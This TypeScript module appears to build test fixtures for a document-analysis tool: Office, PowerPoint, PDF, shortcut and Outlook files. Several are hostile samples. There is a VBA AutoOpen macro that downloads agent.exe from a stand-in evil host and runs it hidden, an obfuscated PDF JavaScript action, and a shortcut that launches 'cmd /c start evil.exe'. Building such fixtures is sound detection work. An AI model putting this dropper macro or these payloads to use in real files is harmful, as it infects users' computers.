import { deflateSync } from 'node:zlib'
import * as cfb from 'cfb'
import { makeZip } from '../cli/support/make-zip.ts'
import { addVbaProject } from './vba-project.ts'

/** Code that downloads a program and starts it. */
export const MACRO_CODE = `Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr) As Long
' A comment of the author
Sub AutoOpen()
  Dim target As String
  target = Environ("TEMP") & "\\agent.exe"
  Fetch 0, "http://files.evil.example.org/agent.exe", target, 0, 0
  CreateObject("WScript.Shell").Run target, vbHide
End Sub`

/** An OLE document with two VBA modules and an author. */
export function makeOle({ code = MACRO_CODE } = {}): Buffer {
  const file = cfb.utils.cfb_new()
  addVbaProject(file, '/Macros', [
    { name: 'ThisDocument', code: '' },
    { name: 'Module1', code },
  ])
  cfb.utils.cfb_add(file, '/Macros/VBA/__SRP_0', Buffer.alloc(32, 7))
  cfb.utils.cfb_add(file, '/WordDocument', Buffer.alloc(5000, 1))
  cfb.utils.cfb_add(file, '/\x05SummaryInformation', summary())
  return Buffer.from(cfb.write(file, { type: 'buffer' }))
}

/** Title, author and time of creation. */
function summary(): Buffer {
  const stream = Buffer.alloc(256)
  stream.writeUInt16LE(0xfffe, 0)
  stream.writeUInt32LE(1, 24)
  stream.writeUInt32LE(48, 44)
  const properties = [
    { id: 2, at: 40, text: 'A title' },
    { id: 4, at: 80, text: 'An author' },
  ]
  stream.writeUInt32LE(3, 52)
  for (const [n, { id, at, text }] of properties.entries()) {
    stream.writeUInt32LE(id, 56 + 8 * n)
    stream.writeUInt32LE(at, 60 + 8 * n)
    stream.writeUInt32LE(0x1e, 48 + at)
    stream.writeUInt32LE(text.length + 1, 52 + at)
    stream.write(text, 56 + at, 'latin1')
  }
  stream.writeUInt32LE(12, 72)
  stream.writeUInt32LE(120, 76)
  stream.writeUInt32LE(0x40, 168)
  stream.writeBigUInt64LE((1_700_000_000n + 11_644_473_600n) * 10_000_000n, 172)
  return stream
}

const RELATIONS = `<Relationships><Relationship Id="r1" Type="t" Target="https://evil.example.org/a?b=1&amp;c=2" TargetMode="External"/>
<Relationship Id="r2" Type="t" Target="styles.xml"/></Relationships>`
const CORE =
  '<cp:coreProperties><dc:title>A &amp; B</dc:title><dc:creator>An author</dc:creator><dcterms:created xsi:type="x">2023-11-14T22:13:20Z</dcterms:created></cp:coreProperties>'

/** An OOXML document with a link to elsewhere and a VBA project. */
export async function makeOoxml(): Promise<Buffer> {
  return Buffer.from(
    await makeZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/_rels/document.xml.rels', content: RELATIONS },
      { name: 'docProps/core.xml', content: CORE },
      { name: 'docProps/app.xml', content: '<Properties><Application>Writer</Application></Properties>' },
      { name: 'word/vbaProject.bin', content: makeVbaProject() },
    ]),
  )
}

type PptOptions = { readonly isCompressed?: boolean; readonly before?: Buffer }

/** A presentation of PowerPoint 97-2003 with a VBA project, after other records. */
export function makePpt({ isCompressed = true, before = Buffer.alloc(4500, 1) }: PptOptions = {}): Buffer {
  const file = cfb.utils.cfb_new()
  cfb.utils.cfb_add(file, '/Current User', Buffer.alloc(32))
  const records = [before, storageRecord(makeVbaProject(), isCompressed), Buffer.alloc(4500, 1)]
  cfb.utils.cfb_add(file, '/PowerPoint Document', Buffer.concat(records))
  return Buffer.from(cfb.write(file, { type: 'buffer' }))
}

/** A record of a presentation that holds a compound file. */
export function storageRecord(content: Buffer, isCompressed: boolean): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(content.length)
  const body = isCompressed ? Buffer.concat([size, deflateSync(content)]) : content
  const header = Buffer.from(isCompressed ? '1000111000000000' : '0000111000000000', 'hex')
  header.writeUInt32LE(body.length, 4)
  return Buffer.concat([header, body])
}

function makeVbaProject(): Buffer {
  const file = cfb.utils.cfb_new()
  addVbaProject(file, '', [{ name: 'NewMacros', code: MACRO_CODE }])
  return Buffer.from(cfb.write(file, { type: 'buffer' }))
}

export const PDF = Buffer.from(
  '%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >> >> endobj\n2 0 obj << /Type /Page >> endobj\n',
)

/** A link with a target and arguments. */
export function makeLnk(): Buffer {
  const header = Buffer.alloc(76)
  header.writeUInt32LE(76, 0)
  header.write('0114020000000000c000000000000046', 4, 'hex')
  // A location, arguments and an icon, in UTF-16.
  header.writeUInt32LE(2 | 32 | 64 | 0x80, 20)
  const path = Buffer.from('C:\\Windows\\System32\\cmd.exe\0')
  const location = Buffer.alloc(28)
  location.writeUInt32LE(28 + path.length, 0)
  location.writeUInt32LE(28, 4)
  location.writeUInt32LE(1, 8)
  location.writeUInt32LE(28, 16)
  return Buffer.concat([header, location, path, countedText('/c start evil.exe'), countedText('shell32.dll')])
}

function countedText(text: string): Buffer {
  const count = Buffer.alloc(2)
  count.writeUInt16LE(text.length)
  return Buffer.concat([count, Buffer.from(text, 'utf16le')])
}

export type OutlookAttachment = { readonly name: string; readonly content: Buffer | OutlookMessage }
export type OutlookMessage = {
  readonly subject: string
  readonly sender?: string
  readonly attachments: readonly OutlookAttachment[]
}

/** A message of Outlook with attachments, which may be messages. */
export function makeMsg(message: OutlookMessage): Buffer {
  const file = cfb.utils.cfb_new()
  // Names of properties, which readers expect.
  for (const [tag, size] of Object.entries({ '00020102': 16, '00030102': 8, '00040102': 4 }))
    cfb.utils.cfb_add(file, `/__nameid_version1.0/__substg1.0_${tag}`, Buffer.alloc(size))
  addMessage(file, '', message)
  const [root] = file.FileIndex
  if (root !== undefined) root.clsid = '0B0D020000000000C000000000000046'
  return Buffer.from(cfb.write(file, { type: 'buffer' }))
}

function addMessage(
  file: cfb.CFB$Container,
  path: string,
  { subject, sender = 'Kim', attachments }: OutlookMessage,
): void {
  const add = (name: string, content: Buffer): void => void cfb.utils.cfb_add(file, `${path}/${name}`, content)
  const addText = (tag: string, text: string): void => add(`__substg1.0_${tag}`, Buffer.from(text, 'utf16le'))
  add('__properties_version1.0', Buffer.alloc(path === '' ? 32 : 24))
  addText('001A001F', 'IPM.Note')
  addText('0037001F', subject)
  addText('0C1A001F', sender)
  addText('5D01001F', `${sender.toLowerCase()}@repo.example`)
  addText('1000001F', 'The text of the message.')
  for (const [n, { name, content }] of attachments.entries()) {
    const folder = `__attach_version1.0_#${n.toString(16).padStart(8, '0').toUpperCase()}`
    const isMessage = !Buffer.isBuffer(content)
    add(`${folder}/__properties_version1.0`, attachMethod(isMessage ? 5 : 1))
    add(`${folder}/__substg1.0_3707001F`, Buffer.from(name, 'utf16le'))
    if (isMessage) addMessage(file, `${path}/${folder}/__substg1.0_3701000D`, content)
    else add(`${folder}/__substg1.0_37010102`, content)
  }
}

/** 1: the content is there; 5: a message. */
function attachMethod(method: number): Buffer {
  const properties = Buffer.alloc(24)
  properties.writeUInt32LE(0x37050003, 8)
  properties.writeUInt32LE(6, 12)
  properties.writeUInt32LE(method, 16)
  return properties
}
